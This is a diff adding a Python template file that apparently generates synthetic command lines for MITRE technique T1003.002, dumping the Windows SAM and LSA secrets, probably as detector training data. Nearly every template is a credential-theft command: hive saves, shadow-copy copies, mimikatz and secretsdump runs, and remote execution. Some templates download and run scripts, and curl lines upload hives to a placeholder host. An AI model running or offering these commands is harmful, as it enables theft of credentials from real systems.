@@ -1,0 +1,115 @@
+"""Templates of T1003.002: reading the SAM or the LSA secrets, by tool and by mechanism."""
+
+from __future__ import annotations
+
+from training.generators.grammar import parse_templates
+
+SAM_TEMPLATES = parse_templates(
+    r"""
+reg-save-sam cmd: «reg¦reg.exe¦‹system32›\reg.exe» save ‹hklm›\«SAM¦sam¦Sam» ‹file›« /y¦»
+reg-save-security cmd +T1003.004: «reg¦reg.exe¦‹system32›\reg.exe» save ‹hklm›\«SECURITY¦security¦Security» ‹file›« /y¦¦ /reg:64»
+reg-save-system cmd: «reg¦reg.exe¦‹system32›\reg.exe» save ‹hklm›\«SYSTEM¦system¦System» ‹file›« /y¦»
+reg-save-chain cmd: reg save ‹hklm›\sam ‹file› «&¦&&» reg save ‹hklm›\system ‹file›« & reg save ‹hklm›\security ‹file›¦»
+reg-save-loop cmd: for %«i¦h¦x¦a» in («sam system security¦SAM SYSTEM¦sam security system¦security sam») do @reg save ‹hklm›\%«i¦h¦x¦a» ‹dir›\%«i¦h¦x¦a».«hiv¦save¦bak»
+reg-save-unc cmd: reg save ‹hklm›\«sam¦security¦system» \\‹server›\«c$¦admin$¦share¦temp¦public»\‹name›.«hiv¦dat¦tmp»
+reg-save-remote-key cmd: reg save \\‹server›\‹hklm›\«SAM¦SECURITY» ‹file›
+reg-export-sam cmd: «reg¦reg.exe» export ‹hklm›\«sam¦SAM¦SAM\SAM¦sam\sam\domains» ‹file›« /y¦»
+reg-export-security cmd +T1003.004: «reg¦reg.exe» export ‹hklm›\«security¦SECURITY¦SECURITY\Policy\Secrets¦security\policy» ‹file›« /y¦»
+regedit-export cmd: «regedit¦regedit.exe¦C:\Windows\regedit.exe» «/e¦-e¦/E¦/s /e» ‹file› "HKEY_LOCAL_MACHINE\«SAM¦SECURITY¦SAM\SAM»"
+reg-query-sam-users cmd: «reg¦reg.exe» query "?‹hklm›\SAM\«SAM\Domains\Account\Users¦SAM\Domains\Account¦SAM»" «/s¦/s /v V¦/v F¦»
+reg-query-security-account cmd: «reg¦reg.exe» query ‹hklm›\SECURITY\«SAM\Domains\Account¦SAM\Domains¦SAM»« /s¦»
+reg-query-secrets cmd +T1003.004: «reg¦reg.exe» query ‹hklm›\SECURITY\Policy\«Secrets¦Secrets\DPAPI_SYSTEM¦Secrets\$MACHINE.ACC¦PolEKList¦Secrets\_SC_‹name›»« /s¦»‹maybe›
+reg-query-bootkey cmd: reg query ‹hklm›\SYSTEM\CurrentControlSet\Control\Lsa\«JD¦Skew1¦GBG¦Data» & reg save ‹hklm›\SAM ‹file›
+reg-copy-sam cmd: reg copy ‹hklm›\SAM\SAM ‹hklm›\SOFTWARE\‹Word› /s /f
+reg-renamed cmd: ‹dir›\‹name›.exe save ‹hklm›\«sam¦security¦system» ‹file›
+reg-query-remote cmd: reg query \\‹server›\‹hklm›\«SAM\SAM\Domains\Account\Users¦SECURITY\Policy\Secrets» /s
+regini-sam cmd: «subinacl¦setacl.exe¦‹dir›\SetACL.exe» -on "HKLM\«SAM\SAM¦SECURITY»" -ot reg -actn ace -ace "n:«Administrators¦‹user›»;p:full"
+vssadmin-copy-sam cmd: vssadmin create shadow /for=C: «&¦&&» copy ‹vss›\Windows\System32\config\«SAM¦SECURITY¦SYSTEM» ‹file›
+vss-copy-sam cmd: «copy¦xcopy /y¦copy /y¦robocopy» ‹vss›\«windows\system32\config\sam¦Windows\System32\config\SAM¦Windows\System32\Config\SECURITY¦windows\system32\config\system» ‹file›
+vss-type-sam cmd: type ‹vss›\Windows\System32\config\«SAM¦SECURITY» > ‹file›
+mklink-vss-sam cmd: mklink /d «C:\‹name›¦‹dir›\‹name›» ‹vss›\ && copy C:\‹name›\Windows\System32\config\«SAM¦SECURITY» ‹dir›
+wmic-shadow-sam cmd: wmic shadowcopy call create Volume='C:\' & copy ‹vss›\Windows\System32\config\«SAM¦SYSTEM» ‹file›
+esentutl-sam cmd: «esentutl¦esentutl.exe» /y /vss ‹config›\«SAM¦SECURITY¦SYSTEM» /d ‹file›
+esentutl-vss-sam cmd: «esentutl.exe¦esentutl» /y ‹vss›\Windows\System32\config\«sam¦security» /d ‹file› /o
+diskshadow-sam cmd: diskshadow /s ‹dir›\‹name›.txt && copy «Z¦X¦P»:\Windows\System32\config\«SAM¦SECURITY» ‹dir›
+diskshadow-exec cmd: diskshadow.exe /s ‹file› & xcopy «z¦s¦y»:\windows\system32\config\«sam¦system» ‹dir›
+copy-repair-sam cmd: copy «C:\Windows\Repair¦%windir%\repair¦C:\Windows\System32\config\RegBack¦%systemroot%\system32\config\RegBack»\«SAM¦sam¦SECURITY» ‹file›
+copy-config-sam cmd: «copy¦xcopy¦copy /b¦robocopy» ‹config›\«SAM¦sam¦SECURITY» ‹file›
+raw-copy-sam cmd: ‹dir›\«RawCopy.exe¦RawCopy64.exe¦‹name›.exe» /FileNamePath:‹config›\«SAM¦SECURITY¦SYSTEM» /OutputPath:‹dir›
+raw-copy-c0 cmd: ‹dir›\«forecopy_handy.exe -f¦hobocopy.exe¦‹name›.exe --copy» ‹config›\«SAM¦SECURITY» ‹dir›
+wbadmin-sam cmd: wbadmin start backup -backupTarget:«E:¦\\‹server›\backup» -include:‹config›\SAM,‹config›\SECURITY -quiet
+makecab-sam cmd: makecab ‹vss›\Windows\System32\config\«SAM¦SECURITY» ‹file›
+expand-sam cmd: «7z¦7za.exe¦"C:\Program Files\7-Zip\7z.exe"» a ‹file› ‹vss›\Windows\System32\config\«SAM¦SYSTEM¦SECURITY»
+certutil-encode-sam cmd: certutil -encode «‹dir›\sam.«hiv¦save¦hive»¦‹vss›\windows\system32\config\sam» ‹file›
+hivenightmare cmd: ‹dir›\«HiveNightmare.exe¦SeriousSam.exe¦shadowsteal.exe¦CVE-2021-36934.exe»« 200¦ -o ‹dir›¦»
+icacls-sam cmd: icacls ‹config›\«SAM¦sam¦SECURITY»
+findstr-shadow-sam cmd: for /L %i in (1,1,20) do @if exist \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%i\Windows\System32\config\SAM copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%i\Windows\System32\config\SAM ‹dir›
+mimikatz-sam cmd: «mimikatz¦mimikatz.exe¦‹dir›\mimikatz.exe¦‹dir›\‹name›.exe» "privilege::debug" "«token::elevate" "¦»lsadump::sam" "exit"
+mimikatz-sam-hives cmd: ‹dir›\«mimikatz¦m64¦‹name›».exe "lsadump::sam /system:‹dir›\‹name› /sam:‹dir›\‹name›" exit
+mimikatz-secrets cmd +T1003.004: «mimikatz.exe¦‹dir›\‹name›.exe¦.\mimi.exe» «privilege::debug ¦»«token::elevate ¦»"lsadump::secrets«" exit¦ /patch" exit¦"»
+mimikatz-patch cmd: «mimikatz.exe¦‹dir›\‹name›.exe» "privilege::debug" "lsadump::lsa /patch" exit
+mimikatz-log cmd: «mimikatz.exe¦‹dir›\‹name›.exe» "log ‹name›.log" privilege::debug token::elevate lsadump::sam exit
+pypykatz-registry cmd: pypykatz «registry --sam ‹file› --security ‹file› ‹file›¦live registry¦live lsa && pypykatz live registry¦registry ‹file› --sam ‹file›»
+pwdump cmd: «‹dir›\¦»«pwdump¦PwDump7¦pwdump6¦fgdump¦gsecdump¦QuarksPwDump¦samdump2».exe« -a¦ -o ‹file›¦ localhost¦ --dump-hash-local¦ -u¦ -x»
+quarks cmd: ‹dir›\«QuarksPwDump¦‹name›».exe --dump-hash-local --output ‹file›
+cachedump-creddump cmd: «python¦py -3¦python.exe» ‹dir›\«pwdump.py¦lsadump.py¦creddump7\pwdump.py» ‹file› ‹file›« true¦»
+gsecdump cmd: ‹dir›\«gsecdump¦gsecdump-v2b5».exe «-a¦-s¦-l¦--dump_hashes¦--dump_lsa»
+lsasecretsview cmd +T1003.004: ‹dir›\«LSASecretsDump¦LSASecretsView¦LSASecretsDump64».exe« > ‹file›¦»
+secretsdump-local bash: «secretsdump.py¦impacket-secretsdump¦python3 secretsdump.py¦python3 /opt/impacket/examples/secretsdump.py» -sam ‹lfile› -system ‹lfile›« -security ‹lfile›¦» LOCAL
+secretsdump-remote bash: «secretsdump.py¦impacket-secretsdump¦python secretsdump.py» «‹domain›/¦./¦»‹user›:'‹pass›'@‹ip›« -outputfile ‹name›¦»
+secretsdump-hash bash: «secretsdump.py¦impacket-secretsdump» -hashes «aad3b435b51404eeaad3b435b51404ee¦»:‹hash› «‹domain›/¦»‹user›@«‹ip›¦‹server›»« -sam¦ -lsa¦»
+secretsdump-win cmd: «‹dir›\secretsdump.exe¦python secretsdump.py¦py ‹dir›\secretsdump.py» -sam ‹file› -system ‹file›« -security ‹file›¦» LOCAL
+secretsdump-kerberos bash: KRB5CCNAME=‹lfile› «secretsdump.py¦impacket-secretsdump» -k -no-pass ‹server›.‹fqdn› -use-vss
+crackmapexec-sam bash: «crackmapexec¦cme¦nxc¦netexec¦poetry run crackmapexec» smb «‹ip›¦‹ip›/24¦‹lfile›» -u «‹user›¦administrator» -p '‹pass›' --sam
+crackmapexec-lsa bash +T1003.004: «crackmapexec¦cme¦nxc¦netexec» «smb¦winrm» ‹ip› -u ‹user› «-p '‹pass›'¦-H ‹hash›»« --local-auth¦» --lsa
+samdump2 bash: «samdump2¦bkhive¦/usr/bin/samdump2» «/mnt/‹word›/Windows/System32/config/SYSTEM /mnt/‹word›/Windows/System32/config/SAM¦‹lfile› ‹lfile›»‹lmaybe›
+chntpw bash: «sudo ¦»chntpw «-l¦-i¦-u Administrator» «/mnt/‹word›/Windows/System32/config/SAM¦‹ldir›/SAM»
+cp-mounted-sam bash: «cp¦sudo cp¦rsync -a» /mnt/«‹word›¦windows»/«Windows/System32/config/SAM¦Windows/System32/config/SECURITY¦WINDOWS/system32/config/sam» ‹ldir›
+smbclient-sam bash: smbclient //‹ip›/C$ -U ‹user›%'‹pass›' -c 'get windows/system32/config/«RegBack/SAM¦RegBack/SECURITY¦sam» ‹name›'
+impacket-reg bash: «reg.py¦impacket-reg» ‹domain›/‹user›:'‹pass›'@‹ip› «save -keyName 'HKLM\\«SAM¦SECURITY¦SYSTEM»' -o '\\\\‹ip›\\share'¦backup -o '\\\\‹ip›\\share'»
+regsecrets bash: «regsecrets.py¦impacket-regsecrets¦python3 regsecrets.py» «‹domain›/¦»‹user›:'‹pass›'@‹ip›
+msf-hashdump bash: msfconsole -q -x "use post/windows/gather/«hashdump¦smart_hashdump¦lsa_secrets¦credentials/credential_collector»; set SESSION ‹n›; run"
+wmic-node-reg cmd: wmic /node:‹server›« /user:‹domain›\‹user› /password:‹pass›¦» process call create "«cmd.exe /c ¦»reg save ‹hklm›\«sam¦security¦system» ‹dir›\‹name›.hiv"
+psexec-reg cmd: «psexec¦psexec.exe¦PsExec64.exe¦‹dir›\PsExec.exe» \\‹server› «-accepteula ¦»-s «cmd /c ¦»reg save ‹hklm›\«sam¦security» ‹file›
+psexec-regedit cmd: «psexec¦PsExec64.exe» «-accepteula ¦»-i «-d ¦»-s «regedit.exe¦C:\Windows\regedit.exe» /e ‹file› HKEY_LOCAL_MACHINE\SAM
+schtasks-reg cmd: schtasks /create« /s ‹server›¦» /tn ‹name› /tr "«cmd /c ¦»reg save ‹hklm›\«sam¦security» ‹dir›\‹name›" /sc once /st «00:00¦23:5‹n›» /ru «system¦SYSTEM»
+winrs-reg cmd: winrs -r:‹server›« -u:‹user› -p:‹pass›¦» "reg save ‹hklm›\«sam¦system¦security» ‹dir›\‹name›.dat"
+sc-reg cmd: sc« \\‹server›¦» create ‹name› binPath= "cmd.exe /c reg save ‹hklm›\«SAM¦SECURITY» ‹dir›\‹name›.hiv" type= own
+ssh-reg cmd: ssh ‹user›@‹ip› "reg save ‹hklm›\«sam¦security» C:\‹name›.hiv"
+ps-reg-save powershell: reg«¦.exe» save ‹hklm›\«sam¦security¦system» «$env:TEMP\‹name›.hiv¦‹file›»« -Force¦ /y¦»
+ps-start-process powershell: Start-Process -FilePath "reg.exe" -ArgumentList "save","HKLM\«SAM¦SECURITY¦SYSTEM»","‹dir›\‹name›"« -WindowStyle Hidden¦ -Wait¦ -Verb RunAs»
+ps-foreach-hives powershell: "sam","system","security" | «%¦ForEach-Object¦foreach» { «reg save HKLM\$_ "$env:TEMP\$_.hiv"¦& reg.exe save "HKLM\$_" "‹dir›\$_"¦reg export "HKLM\$_" "‹dir›\$_.reg" /y» }
+ps-get-item-sam powershell: «Get-ItemProperty¦gp¦Get-ChildItem¦gci¦ls» «-Path ¦»«HKLM:\SAM\SAM\Domains\Account\Users\*¦'HKLM:\SAM\SAM\Domains\Account\Users'¦Registry::HKEY_LOCAL_MACHINE\SAM\SAM\Domains\Account»« -Recurse¦ | Select-Object V, F¦ | Format-List *¦»
+ps-get-item-secrets powershell +T1003.004: «Get-ItemProperty¦Get-ChildItem¦gci» «HKLM:\SECURITY\Policy\Secrets¦"Registry::HKLM\SECURITY\Policy\Secrets\*"¦HKLM:\SECURITY\Policy\PolEKList¦'HKLM:\SECURITY\Policy\Secrets\$MACHINE.ACC\CurrVal'»« -Recurse¦»
+ps-dotnet-registry powershell: $«k¦key¦reg» = [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('«SAM\SAM\Domains\Account¦SECURITY\Policy\Secrets¦SAM\SAM\Domains\Account\Users\000001F4»'«,$true¦»); $«k¦key¦reg».GetValue('«V¦F¦»')
+ps-remote-basekey powershell: $«r¦reg» = [Microsoft.Win32.RegistryKey]::OpenRemoteBaseKey('LocalMachine','‹server›'); $«r¦reg».OpenSubKey('SAM\SAM\Domains\Account\Users').GetSubKeyNames()
+ps-powerdump powershell: «Invoke-PowerDump¦IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/Invoke-PowerDump.ps1'); Invoke-PowerDump¦. .\Invoke-PowerDump.ps1; Invoke-PowerDump¦Import-Module ‹dir›\Invoke-PowerDump.ps1; Invoke-PowerDump»
+ps-powerdump-body powershell: function Get-BootKey { $s = [string]::Join("",$("JD","Skew1","GBG","Data" | %{Get-RegKeyClass "HKLM" "SYSTEM\CurrentControlSet\Control\Lsa\$_"})) }; function Get-UserHashes($u, [byte[]]$hbootkey) { Get-ItemProperty "HKLM:\SAM\SAM\Domains\Account\Users\‹n›" }
+ps-invoke-mimikatz-sam powershell: Invoke-Mimikatz -Command '"«privilege::debug" "¦»«token::elevate" "¦»lsadump::sam"'« -ComputerName ‹server›¦»
+ps-invoke-mimikatz-secrets powershell +T1003.004: Invoke-Mimikatz -Command '"token::elevate" "lsadump::secrets"'
+ps-nishang powershell: «Get-PassHashes¦Get-PassHashes -PSObjectFormat¦IEX (iwr http://‹ip›/Get-PassHashes.ps1); Get-PassHashes¦. .\Get-PassHashes.ps1; Get-PassHashes»
+ps-lsasecret powershell +T1003.004: «Enable-TSDuplicateToken; ¦»«Get-TSLsaSecret -Key '«$MACHINE.ACC¦DefaultPassword¦_SC_‹name›»'¦Get-LSASecret¦Get-TSLsaSecret -RegistryKey _SC_‹name›»
+ps-ninjacopy powershell: Invoke-NinjaCopy -Path "‹config›\«SAM¦sam¦SYSTEM¦SECURITY»" -LocalDestination "‹dir›\‹name›"« -ComputerName ‹server›¦»
+ps-vss-copy powershell: $«v¦s» = (Get-WmiObject -List Win32_ShadowCopy).Create("C:\","ClientAccessible"); cmd /c copy "‹vss›\Windows\System32\config\«SAM¦SECURITY¦SYSTEM»" ‹file›
+ps-copy-shadow powershell: «Copy-Item¦cp¦[System.IO.File]::Copy»«(¦ »'‹vss›\Windows\System32\config\«SAM¦SECURITY¦SYSTEM»'«,¦ »'‹dir›\‹name›'
+ps-copy-config powershell: «Copy-Item¦cp¦copy» ‹config›\«SAM¦SECURITY¦RegBack\SAM» -Destination «‹dir›¦$env:TEMP»
+ps-invoke-command powershell: Invoke-Command -ComputerName ‹server›« -Credential $«c¦cred»¦» -ScriptBlock { reg save HKLM\«SAM¦SECURITY¦SYSTEM» ‹file› }
+ps-wmi-create powershell: Invoke-WmiMethod -ComputerName ‹server› -Class Win32_Process -Name Create -ArgumentList "«cmd /c ¦»reg save HKLM\«SAM¦SECURITY» ‹dir›\‹name›"
+ps-cim-stdreg powershell: ([wmiclass]"\\‹server›\root\default:StdRegProv").«EnumKey(2147483650,"SAM\SAM\Domains\Account\Users").sNames¦GetBinaryValue(2147483650,"SAM\SAM\Domains\Account","V")¦EnumKey(2147483650,"SECURITY\Policy\Secrets").sNames»
+ps-acl-sam powershell: $acl = Get-Acl "HKLM:\«SAM\SAM¦SECURITY»"; $acl.SetAccessRule((New-Object System.Security.AccessControl.RegistryAccessRule("‹user›","FullControl","Allow"))); Set-Acl -Path "HKLM:\«SAM\SAM¦SECURITY»" $acl
+ps-regsavekey powershell: Add-Type -MemberDefinition '[DllImport("advapi32.dll")] public static extern int RegSaveKey(IntPtr hKey, string f, IntPtr s);' -Name ‹Word› -Namespace W; [W.‹Word›]::RegSaveKey($«hSam¦k», "‹dir›\‹name›", 0) # SAM
+ps-samdump-backup powershell: [‹Word›.NativeMethods]::RegOpenKeyEx([IntPtr]::new(-2147483646), "«SAM¦SECURITY»", 4, 0x20019, [ref]$h); [‹Word›.NativeMethods]::RegSaveKeyEx($h, "‹dir›\‹name›.hiv", 0, 1)
+ps-hivenightmare powershell: 1..«9¦15¦20» | % { $p = "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$_\Windows\System32\config\«SAM¦SECURITY»"; [System.IO.File]::Copy($p, "‹dir›\‹name›$_") }
+ps-sharp powershell: «.\¦& ‹dir›\»«SharpSecDump.exe -target=‹server›¦SharpDump.exe; reg save HKLM\SAM ‹file›¦Seatbelt.exe -group=system; reg save HKLM\SECURITY ‹file›¦SharpSAMDump.exe¦GoSecretsDump.exe -sam ‹file› -system ‹file›»
+sharpsecdump cmd: ‹dir›\«SharpSecDump¦‹name›».exe -target=«‹server›¦127.0.0.1»« -u=‹user› -p=‹pass› -d=‹domain›¦»
+gosecretsdump cmd: «gosecretsdump¦gosecretsdump_win.exe¦‹dir›\‹name›.exe» -sam ‹file› -system ‹file›« -out ‹file›¦»
+rundll-cpl-sam cmd: rundll32.exe ‹dir›\‹name›.dll,«DumpSam¦SamDump¦DumpHives» ‹config›\SAM ‹dir›
+nanodump-reg cmd: ‹dir›\«regdump¦BackupOperatorToDA¦RegSave».exe «-t \\‹server› ¦»-o «\\‹server›\share\¦‹dir›» «SAM SYSTEM SECURITY¦»
+dism-offline cmd: reg load HKLM\‹name› ‹vss›\Windows\System32\config\«SAM¦SECURITY»
+reg-load-sam cmd: reg load «HKU¦HKLM»\‹name› «D¦E¦F»:\Windows\System32\config\«SAM¦SECURITY»
+cobalt-hashdump text: «beacon> hashdump¦meterpreter > hashdump¦sliver (‹word›) > hashdump¦[*] Tasked beacon to dump hashes¦meterpreter > run post/windows/gather/smart_hashdump¦meterpreter > lsa_dump_secrets¦meterpreter > lsa_dump_sam»
+tar-sam cmd: tar -cf ‹file› -C \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy‹n›\Windows\System32\config «SAM SYSTEM¦SAM SECURITY SYSTEM»
+curl-sam cmd: «curl¦curl.exe» -«T¦F "f=@»«‹dir›\sam.«hiv¦save»¦‹dir›\SAM"» http://‹ip›:‹port›/‹name›
+ntbackup-sam cmd: ntbackup backup systemstate /J ‹name› /F ‹file› & copy C:\Windows\repair\sam ‹dir›
+"""
+)
